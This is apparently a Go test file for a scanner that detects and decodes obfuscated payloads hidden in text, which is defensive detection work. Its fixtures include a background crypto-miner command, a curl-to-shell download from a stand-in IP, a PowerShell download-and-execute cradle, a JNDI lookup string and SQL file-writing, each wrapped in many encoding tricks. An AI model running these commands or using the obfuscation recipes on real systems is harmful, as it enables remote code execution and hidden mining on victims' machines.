package layer

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

func b64(b string) string { return base64.StdEncoding.EncodeToString([]byte(b)) }

func all(text string) (got []Layer) {
	Scan([]byte(text), func(l Layer) bool {
		got = append(got, l)
		return true
	})
	return got
}

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func zipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

func deflated(s string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, 9)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

func reversed(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

func each(s string, format, sep string) string {
	var out []string
	for _, c := range []byte(s) {
		out = append(out, fmt.Sprintf(format, c))
	}
	return strings.Join(out, sep)
}

func xored(s string, key string) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= key[i%len(key)]
	}
	return string(b)
}

func wrap(s string, n int, sep string) string {
	var out []string
	for len(s) > n {
		out = append(out, s[:n])
		s = s[n:]
	}
	return strings.Join(append(out, s), sep)
}

const (
	command = "cd /tmp; ./sys -o pool.example.org:3333 -u worker.1 -p x -k --background >/dev/null 2>&1 &"
	long    = "#!/bin/sh\n# sets the machine up\nfor f in a b c; do\n  echo $f >> /tmp/list\ndone\ncurl -fsSL http://192.0.2.7/run.sh | sh\n" + command + "\n"
)

func TestScan(t *testing.T) {
	for _, tt := range []struct {
		name, text, recipe, decoded string
	}{
		{"base64 into a shell", "echo " + b64(long) + " | base64 -d | sh\n", "base64", long},
		{"short", "echo " + b64("curl 192.0.2.1/a|sh") + "|base64 -d|sh\n", "base64", "curl 192.0.2.1/a|sh"},
		{"lines of 76", "base64 -d <<EOF | sh\n" + wrap(b64(long+long), 76, "\n") + "\nEOF\n", "base64", long + long},
		{"lines of 64, CRLF", "-----BEGIN CERTIFICATE-----\r\n" + wrap(b64(long+long), 64, "\r\n") + "\r\n-----END CERTIFICATE-----\r\n", "base64", long + long},
		{"literals joined by +", `x = "` + wrap(b64(long), 40, `" + "`) + `"`, "base64", long},
		{"literals joined by & and _", "x = \"" + wrap(b64(long), 20, "\" & _\r\n    \"") + "\"", "base64", long},
		{"adjacent literals", "char *x =\n  \"" + wrap(b64(long), 50, "\"\n  \"") + "\";", "base64", long},
		{"parts of an array", "$a = @('" + wrap(b64(long), 32, "','") + "')", "base64", long},
		{"line ends escaped", `x = "` + wrap(b64(long), 76, `\n`) + `"`, "base64", long},
		{"in a comment block", "# " + wrap(b64(long), 60, "\n# ") + "\n", "base64", long},
		{"data URL", `<a href="data:text/html;base64,` + b64("<script>location='http://192.0.2.1/'</script>") + `">`, "base64", "<script>location='http://192.0.2.1/'</script>"},
		{"for addresses", "x=" + base64.RawURLEncoding.EncodeToString([]byte(command+"???>>>~~~"+command)) + "\n", "base64url", command + "???>>>~~~" + command},
		{"the end of an address", "${jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/" + b64(command) + "}", "base64", command},
		{"encoded command", "powershell -nop -w hidden -enc " + b64(utf16le("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')")), "powershell -EncodedCommand: base64, utf-16le", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')"},
		{"utf-16", "FromBase64String('" + b64(utf16le(long)) + "')", "base64, utf-16le", long},
		{"gzip", "echo " + b64(zipped(long)) + " | base64 -d | gunzip", "base64", zipped(long)},
		{"deflate", "[IO.Compression.DeflateStream]'" + b64(deflated(long)) + "'", "base64, deflate", long},
		{"twice", "x='" + b64(b64(long)) + "'", "base64", b64(long)},
		{"reversed", "echo '" + reversed(b64(long)) + "' | rev | base64 -d", "reversed, base64", long},
		{"reversed with padding", "x='" + reversed(b64(long[:len(long)-2])) + "'", "reversed, base64", long[:len(long)-2]},
		{"appended with .=", "$a='" + b64(long)[:50] + "';\n$a.='" + b64(long)[50:110] + "';\n$a.='" + b64(long)[110:] + "';", "base64", long},
		{"appended with &", "a = \"" + b64(long)[:50] + "\"\r\na = a & \"" + b64(long)[50:110] + "\"\r\na = a & \"" + b64(long)[110:] + "\"\r\n", "base64", long},
		{"base32", "echo " + base32.StdEncoding.EncodeToString([]byte(long)) + " | base32 -d", "base32", long},
		{"hex escapes over literals", "char s[] =\n  \"" + each(long[:60], `\x%02x`, "") + "\"\n  \"" + each(long[60:], `\x%02x`, "") + "\";", "hex escapes", long},
		{"a masked list that is text", "x = [" + each(xored(command, "\x42"), "%d", ",") + "]", "char codes, xor 42", command},
		{"hexadecimal in quotes", "eval(Buffer.from('" + hex.EncodeToString([]byte(command)) + "','hex'))", "hex", command},
		{"hexadecimal", "echo " + hex.EncodeToString([]byte(command)) + " | xxd -r -p | sh", "hex", command},
		{"hexadecimal in SQL", "SELECT 0x" + hex.EncodeToString([]byte(long)) + " INTO DUMPFILE", "hex", long},
		{"hex of base64", "x=" + hex.EncodeToString([]byte(b64(long))), "hex", b64(long)},
		{"hex escapes", "printf '" + each(command, `\x%02x`, "") + "' | sh", "hex escapes", command},
		{"hex escapes, doubled", `x = "` + each(command, `\\x%02x`, "") + `"`, "hex escapes", command},
		{"unicode escapes", `eval("` + each(command, `\u%04x`, "") + `")`, "unicode escapes", command},
		{"octal escapes", "printf '" + each(command, `\%03o`, "") + "'", "octal escapes", command},
		{"octal escapes with a zero", "echo -e '" + each(command, `\0%03o`, "") + "'", "octal escapes", command},
		{"percent", "GET /x?c=" + each(command, `%%%02x`, "") + " HTTP/1.1", "percent-encoding", command},
		{"unescape", "unescape('" + each(command, `%%u%04x`, "") + "')", "unicode escapes", command},
		{"entities", "<a title=" + each(command, `&#x%x;`, "") + ">", "html entities", command},
		{"decimal entities", "<a title=" + each(command, `&#%d;`, "") + ">", "html entities", command},
		{"char codes", "String.fromCharCode(" + each(command, "%d", ",") + ")", "char codes", command},
		{"char codes, one a line", "bytes([\n  " + each(command, "%d", ",\n  ") + "])", "char codes", command},
		{"hex list", "$b = " + each(command, "0x%02x", ", "), "hex bytes", command},
		{"hex pairs", `"x"=hex:` + each(command, "%02x", ","), "hex bytes", command},
		{"hex pairs apart", "x = '" + each(command, "%02X", " ") + "'", "hex bytes", command},
		{"chr", "x = " + each(command, "Chr(%d)", " & "), "char codes", command},
		{"char", "iex (" + each(command, "[char]%d", "+") + ")", "char codes", command},
		{"char in hexadecimal", "iex (" + each(command, "[char]0x%x", "+") + ")", "char codes", command},
		{"masked", "x = b64d('" + b64(xored(long, "\x5a")) + "')", "base64, xor 5a", long},
		{"masked by three bytes", "x = b64d('" + b64(xored(long, "key")) + "')", "base64, xor 6b6579 (3 bytes)", long},
		{"masked list", "x = {" + each(xored(long, "\xa7"), "0x%02x", ", ") + "}", "hex bytes, xor a7", long},
		{"a configuration", "x=" + b64(`{"pools": [{"url": "pool.example.org:3333", "user": "w"}], "donate-level": 1}`), "base64", `{"pools": [{"url": "pool.example.org:3333", "user": "w"}], "donate-level": 1}`},
		{"a server", "h=$(echo " + b64("pool.example.org:14444") + "|base64 -d)", "base64", "pool.example.org:14444"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := all("some text before it, " + tt.text + "\nand some behind\n")
			if len(got) != 1 || got[0].Recipe != tt.recipe || string(got[0].Decoded) != tt.decoded {
				t.Errorf("%q\ngot %d layers", tt.text, len(got))
				for _, l := range got {
					t.Errorf("[%d,%d) %s: %q", l.Start, l.End, l.Recipe, l.Decoded)
				}
			}
		})
	}
}

func dumpC(s string) string { return hex.Dump([]byte(s)) }
func xxd(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i += 16 {
		row := s[i:min(len(s), i+16)]
		fmt.Fprintf(&b, "%08x:", i)
		for k := 0; k < 16; k += 2 {
			switch {
			case k+1 < len(row):
				fmt.Fprintf(&b, " %02x%02x", row[k], row[k+1])
			case k < len(row):
				fmt.Fprintf(&b, " %02x  ", row[k])
			default:
				b.WriteString("     ")
			}
		}
		fmt.Fprintf(&b, "  %s\n", strings.Map(func(r rune) rune {
			if r < ' ' {
				return '.'
			}
			return r
		}, row))
	}
	return b.String()
}

func TestListings(t *testing.T) {
	for name, text := range map[string]string{
		"hexdump -C": dumpC(command),
		"xxd":        xxd(command),
		"in a text":  "the dump:\n" + xxd(command) + "end\n",
	} {
		got := all(text)
		if len(got) != 1 || got[0].Recipe != "hex dump" || string(got[0].Decoded) != command {
			t.Errorf("%s:\n%s\n%v", name, text, got)
			for _, l := range got {
				t.Logf("%q", l.Decoded)
			}
		}
	}
}

func TestNothingToPeel(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	random := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return string(b)
	}
	png := "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random(2000)
	der := "\x30\x82\x03\x5d\x30\x82\x02\x45\xa0\x03\x02\x01\x02\x02" + random(800)
	for name, text := range map[string]string{
		"random key":   "key: " + b64(random(300)),
		"picture":      "url(data:image/png;base64," + b64(png) + ")",
		"certificate":  "-----BEGIN CERTIFICATE-----\n" + wrap(b64(der), 64, "\n") + "\n-----END CERTIFICATE-----\n",
		"its base64":   "ca: " + b64("-----BEGIN CERTIFICATE-----\n"+wrap(b64(der), 64, "\n")+"\n-----END CERTIFICATE-----\n"),
		"pgp":          "-----BEGIN PGP MESSAGE-----\n\n" + wrap(b64("\x85\x02\x0c\x03"+random(900)), 64, "\n") + "\n=AbCd\n-----END PGP MESSAGE-----\n",
		"integrity":    `"integrity": "sha512-` + b64(random(64)) + `", "resolved": "https://registry.example.org/lodash/-/lodash-4.17.21.tgz"`,
		"hash":         "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  file.tar.gz\n",
		"token":        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"1234567890","url":"https://example.org","iat":1516239022}`)) + "." + base64.RawURLEncoding.EncodeToString([]byte(random(32))),
		"source map":   "//# sourceMappingURL=data:application/json;base64," + b64(`{"version":3,"sources":["https://example.org/a.ts"],"names":[],"mappings":"AAAA"}`),
		"ssh key":      "ssh-rsa " + b64("\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01"+random(256)) + " me@example.org",
		"vector":       `<img src="data:image/svg+xml;base64,` + b64(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0h10v10z"/></svg>`) + `">`,
		"identifiers":  "func TestThatTheQuickBrownFoxJumpsOverTheLazyDog(t *testing.T) { ThisIsAnIdentifierThatIsVeryLongIndeedSir() }",
		"paths":        "/usr/share/doc/libqtwebengine/html/images/used/in/examples/thumbnail /usr/lib/python3/dist/packages/setuptools/command/build",
		"chinese":      `{"a": "` + each("\u4e2d", `\u4e2d\u6587\u5b57\u7b26\u4e32\u4e2d\u6587\u5b57\u7b26\u4e32`, "") + `"}`,
		"numbers":      "[" + strings.Repeat("12, 45, 7, 201, 88, 93, 34, 56, ", 40) + "1]",
		"points":       strings.Repeat("33.5,44.1 55.2,66.3 ", 30),
		"dates":        strings.Repeat("2024-01-02 10:04:05,123 ok\n", 30),
		"mac":          "aa:bb:cc:dd:ee:ff 00:11:22:33:44:55 SHA256 fingerprint 4A:3B:2C:1D:0E:FF:AA:BB:CC:DD:EE:11:22:33:44:55:66:77:88:99:AA:BB:CC:DD",
		"html escapes": `{"html": "\u003cdiv class=\u0022a\u0022\u003e\u003cp\u003etext\u003c/p\u003e\u003c/div\u003e"}`,
		"controls":     `re = "[\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13]"`,
		"address":      "GET /search?q=%E4%BD%A0%E5%A5%BD%E4%BD%A0%E5%A5%BD&u=https%3A%2F%2Fexample.org%2Fpath HTTP/1.1",
		"password":     "Authorization: Basic " + b64("administrator:correcthorsebattery"),
		"wallet":       "48qJBTpPPSF54K1hmH66ifRqcD9raJ61JZEAm5kVR8b7P5aKy5g5nMYXbYJz5uxE1g4CEkrjYneu5KuhJqN4mzFzBrBDoZ1",
		"uuid":         strings.Repeat("6ba7b810-9dad-11d1-80b4-00c04fd430c8\n", 20),
		"listing":      strings.Repeat("00000010  de ad be ef 00 01 02 03  80 81 82 83 84 85 86 87  |................|\n", 1),
		"empty":        "",
	} {
		for _, l := range all(text) {
			t.Errorf("%s: %s of [%d,%d): %q", name, l.Recipe, l.Start, l.End, l.Decoded[:min(len(l.Decoded), 80)])
		}
	}
}

func TestTurned(t *testing.T) {
	for _, tt := range []struct{ text, word, recipe, want string }{
		{"eval(strrev('" + reversed(command) + "'));", "strrev(", "reversed", command},
		{"exec('" + reversed(command) + "'[::-1])", "[::-1]", "reversed", command},
		{"exec(b64(\"" + reversed(b64(long)) + "\"[::-1]))", "[::-1]", "reversed, base64", long},
		{"eval(str_rot13('" + string(rot13([]byte(command))) + "'));", "rot13", "rot13", command},
		{"eval(gzinflate(base64_decode(str_rot13('" + string(rot13([]byte(b64(long)))) + "'))));", "rot13", "rot13, base64", long},
		{"x = 'racecar level noon civic'[::-1]", "[::-1]", "", ""},
		{"x = 'curl http://192.0.2.1/a | sh'[::-1]", "[::-1]", "", ""},
	} {
		var got Layer
		Turned([]byte(tt.text), strings.Index(tt.text, tt.word), func(l Layer) bool { got = l; return true })
		if got.Recipe != tt.recipe || string(got.Decoded) != tt.want {
			t.Errorf("%s\n%s %q", tt.text, got.Recipe, got.Decoded)
		}
	}
}
